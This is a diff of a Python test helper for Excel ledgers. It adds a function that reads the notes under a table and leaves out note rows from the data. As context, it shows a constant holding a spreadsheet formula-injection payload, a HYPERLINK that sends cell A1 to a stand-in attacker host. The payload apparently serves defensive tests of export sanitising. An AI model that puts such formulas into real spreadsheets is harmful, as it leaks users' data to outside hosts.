@@ -14,17 +14,26 @@ from .writer import SERIAL
 def list_rows(content: bytes, sheet: str | None = None) -> list[tuple[Any, ...]]:
     """The header row and the data rows of a ledger, without its title row and its 序号 column.
 
-    Asserts the ledger layout on the way: a one-cell title row, the header with 序号 first, numbered rows.
+    Asserts the ledger layout on the way: a one-cell title row, the header with 序号 first, numbered rows. The
+    notes under the table (``ListSheet.note``: text where a 序号 would be) are not rows of it: see ``notes``.
     """
     wb = load_workbook(BytesIO(content))
     ws = wb[sheet] if sheet else wb.worksheets[0]
     rows = list(ws.iter_rows(values_only=True))
     title, header, data = rows[0], rows[1], rows[2:]
+    data = [r for r in data if not isinstance(r[0], str)]
     assert title[0] and not any(title[1:]), title
     assert header[0] == SERIAL, header
     numbers = [r[0] for r in data if r[0] is not None]
     assert numbers == list(range(1, len(numbers) + 1)), numbers
     return [header[1:]] + [r[1:] for r in data]
+
+
+def notes(content: bytes, sheet: str | None = None) -> list[str]:
+    """The notes under a ledger's table (``ListSheet.note``), in order."""
+    wb = load_workbook(BytesIO(content))
+    ws = wb[sheet] if sheet else wb.worksheets[0]
+    return [r[0] for r in ws.iter_rows(min_row=3, values_only=True) if isinstance(r[0], str)]
 
 
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
